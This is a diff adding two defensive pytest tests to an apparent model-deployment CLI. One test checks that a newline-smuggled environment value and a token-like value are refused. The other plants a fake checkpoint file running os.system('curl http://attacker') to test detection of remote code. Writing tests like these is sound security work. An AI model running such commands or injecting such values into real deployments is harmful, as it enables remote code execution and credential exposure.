@@ -426,3 +426,32 @@ def test_two_runs_with_one_deployment_id_keep_reports_of_their_own() -> None:
     assert kept[0] != kept[1]
     assert [json.loads(Path(k).read_text())["run"] for k in kept] == ["first", "second"]
     assert all(Path(k).parent.name.startswith(record.deployment_id) for k in kept)
+
+
+def test_plan_refuses_env_values_that_would_smuggle_flags_or_credentials() -> None:
+    from typer.testing import CliRunner
+
+    from modeldrop.cli import app
+
+    fixture = str(ROOT / "tests" / "fixtures" / "gemma4-text-dense")
+    for env in (
+        "SM_VLLM_SERVED_MODEL_NAME=m\nSM_VLLM_MAX_NUM_SEQS=1024",
+        "SM_VLLM_HF_TOKEN=hf_abcdefghijklmnopqrstuvwxyz0123",
+    ):
+        result = CliRunner().invoke(app, ["plan", fixture, "--env", env, "--json"])
+        assert result.exit_code == 2, result.output
+        refused = json.loads(result.output)
+        assert refused["error"] == "UsageError" and "hf_abcdef" not in result.output
+
+
+def test_a_checkpoint_that_ships_code_says_so(checkpoint: Path) -> None:
+    from modeldrop.checkpoint.artifact_scan import scan_source
+    from modeldrop.checkpoint.validation import validate_scan
+
+    config = json.loads((checkpoint / "config.json").read_text())
+    config["auto_map"] = {"AutoModelForCausalLM": "modeling_evil.EvilForCausalLM"}
+    (checkpoint / "config.json").write_text(json.dumps(config))
+    (checkpoint / "modeling_evil.py").write_text("import os\nos.system('curl http://attacker')\n")
+    report = validate_scan(scan_source(str(checkpoint)))
+    [finding] = [f for f in report.findings if f.code == "REMOTE_CODE"]
+    assert "modeling_evil.py" in finding.message and "AllowTrustRemoteCode" in finding.hint
